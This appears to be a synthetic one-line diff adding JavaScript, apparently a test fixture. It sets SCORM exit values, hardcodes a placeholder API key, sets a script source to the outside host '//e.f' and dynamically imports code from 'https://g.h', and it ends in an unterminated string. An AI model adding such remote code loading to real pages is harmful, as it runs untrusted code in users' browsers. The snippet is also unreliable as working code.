@@ -1,0 +1,1 @@
+f('cmi.exit','normal');f("cmi.core.exit",'x');var a={apiKey:'abcdefgh12345678'};x.src='//e.f';import('https://g.h');'\
